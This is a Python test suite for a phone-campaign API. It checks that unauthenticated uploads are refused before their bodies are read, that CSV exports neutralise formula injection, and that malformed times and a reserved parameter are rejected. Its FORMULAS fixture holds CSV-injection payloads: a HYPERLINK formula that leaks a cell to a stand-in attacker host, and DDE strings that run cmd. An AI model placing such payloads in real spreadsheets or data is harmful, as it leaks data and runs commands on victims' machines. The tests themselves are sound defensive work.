"""Attacks on the campaigns API and on the CSV files the product writes (issue 16):

- work before authentication: a stranger's upload must be refused before a byte of its
  body is read, and an admin's big list must be read and checked off the event loop;
- CSV formula injection: a contact field (or a caller's number) starting with = + - @
  tab or CR must reach no spreadsheet as a formula (results.csv from the API and the
  page, `python -m phonebot.campaigns results`, `python -m phonebot.records export`);
- a start_at without a time zone (was a 500) and a reserved `amd` parameter (refused by
  /dialout, accepted by campaigns) are 422s naming the field.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from phonebot.campaigns import contacts as campaigns_contacts
from phonebot.campaigns.cli import main as campaign_cli
from phonebot.records import Records
from phonebot.records.cli import main as calls_cli
from phonebot.web import campaigns_api
from phonebot.web import dnc_api as campaigns_dnc
from phonebot.web.calls_ui import router as records_ui_router
from tests.conftest import make_settings

pytest.register_assert_rewrite("tests.campaigns_fixtures")
from tests.campaigns_fixtures import ADMIN_KEY, AUTH, LA, NY  # noqa: E402

pytest_plugins = ["tests.campaigns_fixtures"]

GOOD = {"name": "summer sale", "contacts": [{"to": NY[0]}, {"to": LA[0]}]}
# What a spreadsheet would run, one per formula-starting character OWASP lists.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
CHUNK = 65_536


# --- work before authentication -----------------------------------------------------


async def asgi_post(app: Any, path: str, headers: dict[str, str], body: bytes) -> tuple[int, int]:
    """POST `body` to the ASGI app in 64 KB chunks, as a server streams it: the status
    and how many body bytes the app pulled before it answered."""
    chunks = [body[i:i + CHUNK] for i in range(0, len(body), CHUNK)]
    pulled = 0
    status: list[int] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if not chunks:
            return {"type": "http.disconnect"}
        chunk = chunks.pop(0)
        pulled += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": bool(chunks)}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            status.append(message["status"])

    raw = [(k.lower().encode(), v.encode()) for k, v in headers.items()]
    raw += [(b"host", b"test"), (b"content-length", str(len(body)).encode())]
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"",
        "root_path": "", "headers": raw, "client": ("198.51.100.7", 40000),
        "server": ("test", 80),
    }
    await app(scope, receive, send)
    return status[0], pulled


def multipart(text: str) -> tuple[bytes, str]:
    """A multipart upload of the CSV `text` (as curl -F sends it) and its content type."""
    request = httpx.Request(
        "POST", "http://test/campaigns", files={"contacts": ("c.csv", text, "text/csv")},
        data={"campaign": json.dumps({"name": "upload"})},
    )
    return request.read(), request.headers["content-type"]


def big_upload() -> tuple[bytes, str]:
    """A ~3 MB CSV upload, the attack's size."""
    return multipart("to,customer_id\n" + f"{NY[0]},c-1\n" * 200_000)


def spy(module: Any, name: str, monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Replace `module.name` by a wrapper recording the thread of each call."""
    threads: list[int] = []
    original: Callable[..., Any] = getattr(module, name)

    def recorded(*args: Any, **kwargs: Any) -> Any:
        threads.append(threading.get_ident())
        return original(*args, **kwargs)

    monkeypatch.setattr(module, name, recorded)
    return threads


@pytest.mark.parametrize("key", [None, "wrong-key-0123456789"], ids=["no-key", "wrong-key"])
async def test_a_strangers_csv_upload_is_refused_before_its_body_is_read(
    sqlite_harness, monkeypatch, key
):
    parsed = spy(campaigns_api, "read_csv", monkeypatch)
    body, kind = big_upload()
    headers = {"content-type": kind}
    if key:
        headers["authorization"] = f"Bearer {key}"
    status, pulled = await asgi_post(sqlite_harness.app, "/campaigns", headers, body)
    assert status == 401
    assert pulled == 0, f"{pulled} of {len(body)} bytes read before the 401"
    assert parsed == []


@pytest.mark.parametrize("path", ["/campaigns", "/dnc"])
async def test_a_strangers_json_body_is_refused_before_it_is_read(sqlite_harness, path):
    body = json.dumps({**GOOD, "contacts": [{"to": NY[0]}] * 20_000} if path == "/campaigns"
                      else {"numbers": [NY[0]] * 10_000}).encode()
    headers = {"content-type": "application/json", "authorization": "Bearer nope"}
    status, pulled = await asgi_post(sqlite_harness.app, path, headers, body)
    assert (status, pulled) == (401, 0)


async def test_the_pages_form_is_not_read_without_a_session(sqlite_harness):
    sqlite_harness.app.include_router(records_ui_router)
    body, kind = multipart("csrf\n" + "x" * 60_000)
    status, pulled = await asgi_post(
        sqlite_harness.app, "/calls/ui/campaigns/cmp_x/pause", {"content-type": kind}, body)
    assert (status, pulled) == (303, 0)  # to the login form, the body left unread


async def test_the_admins_upload_still_gets_through(sqlite_harness):
    body, kind = multipart(f"to\n{NY[0]}\n")
    headers = {"content-type": kind, "authorization": AUTH["Authorization"]}
    status, pulled = await asgi_post(sqlite_harness.app, "/campaigns", headers, body)
    assert status == 201 and pulled == len(body)


async def test_a_big_list_is_read_and_checked_off_the_event_loop(sqlite_harness, monkeypatch):
    loop_thread = threading.get_ident()
    read = spy(campaigns_api, "read_csv", monkeypatch)
    checked = spy(campaigns_contacts, "normalise", monkeypatch)  # phonenumbers, per row
    numbers = NY[:50] + LA[:50]
    text = "to,customer_id\n" + "".join(f"{n},c-{i}\n" for i, n in enumerate(numbers))
    response = await sqlite_harness.client.post(
        "/campaigns", headers=AUTH, files={"contacts": ("c.csv", text, "text/csv")},
        data={"campaign": json.dumps({"name": "big"})},
    )
    assert response.status_code == 201, response.text
    assert response.json()["contacts"] == 100
    assert read and loop_thread not in read
    assert len(checked) == 100 and loop_thread not in checked

    checked.clear()
    response = await sqlite_harness.client.post(
        "/campaigns", headers=AUTH, json={"name": "json", "contacts": [{"to": n} for n in numbers]})
    assert response.status_code == 201
    assert len(checked) == 100 and loop_thread not in checked


async def test_a_big_do_not_call_list_is_checked_off_the_event_loop(sqlite_harness, monkeypatch):
    loop_thread = threading.get_ident()
    checked = spy(campaigns_dnc, "dnc_number", monkeypatch)
    response = await sqlite_harness.client.post("/dnc", json={"numbers": NY}, headers=AUTH)
    assert response.status_code == 200 and response.json()["added"] == len(NY)
    assert len(checked) == len(NY) and loop_thread not in checked


async def test_the_event_loop_keeps_ticking_while_a_list_is_checked(sqlite_harness, monkeypatch):
    """The same, felt by a live call: a coroutine ticking while a slow list is checked.
    The check is made slow on purpose (0.8 s of CPU), far above the gap allowed (0.4 s),
    which is far above a tick's (10 ms): the margins hold on a loaded machine."""
    original = campaigns_contacts.normalise

    def slow(number: str) -> str | None:
        busy_until = time.perf_counter() + 0.08
        while time.perf_counter() < busy_until:  # CPU, as phonenumbers on thousands of rows
            pass
        return original(number)

    monkeypatch.setattr(campaigns_contacts, "normalise", slow)
    ticks: list[float] = []
    done = asyncio.Event()

    async def ticker() -> None:
        while not done.is_set():
            ticks.append(time.perf_counter())
            await asyncio.sleep(0.01)

    task = asyncio.create_task(ticker())
    body = {"name": "slow", "contacts": [{"to": n} for n in NY[:10]]}
    response = await sqlite_harness.client.post("/campaigns", json=body, headers=AUTH)
    done.set()
    await task
    assert response.status_code == 201
    gaps = [b - a for a, b in zip(ticks, ticks[1:], strict=False)]
    assert len(ticks) > 5 and max(gaps) < 0.4, f"the loop stopped for {max(gaps):.2f} s"


# --- CSV formula injection ----------------------------------------------------------


def assert_escaped(rows: list[dict[str, str]], column: str, values: list[str]) -> None:
    """Every value came out with `'` in front: text to a spreadsheet, never a formula."""
    assert [row[column] for row in rows] == [f"'{value}" for value in values]


async def test_results_csv_escapes_formulas_from_the_api_and_the_page(sqlite_harness):
    contacts = [{"to": NY[i], "customer_id": value} for i, value in enumerate(FORMULAS)]
    campaign = await sqlite_harness.create(name="csv", contacts=contacts)
    response = await sqlite_harness.client.get(f"/campaigns/{campaign}/results.csv",
                                               headers=AUTH)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert_escaped(rows, "customer_id", FORMULAS)
    assert_escaped(rows, "to", NY[: len(FORMULAS)])  # E.164's + too (OWASP's rule)
    assert [row["state"] for row in rows] == ["pending"] * len(FORMULAS)

    sqlite_harness.app.include_router(records_ui_router)  # the page's download
    login = await sqlite_harness.client.post("/calls/ui/login", data={"key": ADMIN_KEY})
    assert login.status_code == 303
    page = await sqlite_harness.client.get(f"/calls/ui/campaigns/{campaign}/results.csv")
    assert page.status_code == 200 and page.text == response.text


def test_the_campaign_cli_results_escape_formulas(tmp_path: Path, campaign_server, capsys):
    listed = tmp_path / "contacts.csv"
    with listed.open("w", newline="") as out:  # written with csv: quoted where needed
        csv.writer(out).writerows([["to", "customer_id"], [NY[0], FORMULAS[0]],
                                   [NY[1], FORMULAS[3]]])
    assert campaign_cli(["start", str(listed)]) == 0
    campaign = capsys.readouterr().out.split()[1].rstrip(":")
    assert campaign_cli(["results", campaign]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert_escaped(rows, "customer_id", [FORMULAS[0], FORMULAS[3]])


def test_the_calls_export_escapes_formulas(tmp_path: Path, capsys):
    url = f"sqlite:///{tmp_path / 'calls.db'}"

    async def fill() -> None:
        records = Records(make_settings(database_url=url))
        await records.start()
        records.writer.call_started(
            "CAevil", direction="inbound", from_number=FORMULAS[0], to_number="+15559999",
            persona=FORMULAS[3], parameters={"customer_id": FORMULAS[2]},
        )
        records.writer.call_ended("CAevil", end_reason="caller hung up")
        await records.stop()

    asyncio.run(fill())
    assert calls_cli(["--database-url", url, "export", "--format", "csv"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["from"] == f"'{FORMULAS[0]}" and row["persona"] == f"'{FORMULAS[3]}"
    assert row["to"] == "'+15559999" and row["call_sid"] == "CAevil"
    assert json.loads(row["parameters"]) == {"customer_id": FORMULAS[2]}  # starts with {


# --- weaknesses: naive times, reserved parameters -----------------------------------


@pytest.mark.parametrize("field", ["start_at", "end_at"])
async def test_a_time_without_a_zone_is_422_naming_the_field(sqlite_harness, field):
    body = {**GOOD, field: "2026-12-01T09:00:00"}
    response = await sqlite_harness.client.post("/campaigns", json=body, headers=AUTH)
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", field] and "time zone offset" in error["msg"]
    aware = await sqlite_harness.client.post(
        "/campaigns", json={**GOOD, field: "2026-12-01T09:00:00-05:00"}, headers=AUTH)
    assert aware.status_code == 201, aware.text


async def test_a_csv_upload_with_a_naive_start_is_422_too(sqlite_harness):
    response = await sqlite_harness.client.post(
        "/campaigns", headers=AUTH, files={"contacts": ("c.csv", f"to\n{NY[0]}\n", "text/csv")},
        data={"campaign": json.dumps({"name": "x", "start_at": "2026-12-01 09:00"})},
    )
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["body", "start_at"]


AMD = [
    ("campaign", {**GOOD, "parameters": {"amd": "1"}}, ["body", "parameters", "amd"]),
    ("contact", {**GOOD, "contacts": [{"to": NY[0]}, {"to": LA[0], "parameters": {"amd": "1"}}]},
     ["body", "contacts", 1, "parameters", "amd"]),
]


@pytest.mark.parametrize(("body", "loc"), [case[1:] for case in AMD], ids=[c[0] for c in AMD])
async def test_the_reserved_amd_parameter_is_refused_like_dialout_does(sqlite_harness, body, loc):
    response = await sqlite_harness.client.post("/campaigns", json=body, headers=AUTH)
    assert response.status_code == 422, response.text
    errors = response.json()["detail"]
    assert any(e["loc"] == loc and "use machine_detection" in e["msg"] for e in errors), errors
    assert await sqlite_harness.store.list() == []


async def test_an_amd_column_in_a_csv_is_refused_naming_its_row(sqlite_harness):
    response = await sqlite_harness.client.post(
        "/campaigns", headers=AUTH,
        files={"contacts": ("c.csv", f"to,amd\n{NY[0]},\n{LA[0]},1\n", "text/csv")},
        data={"campaign": json.dumps({"name": "x"})},
    )
    assert response.status_code == 422
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "contacts", 1, "parameters", "amd"] and error["row"] == 2
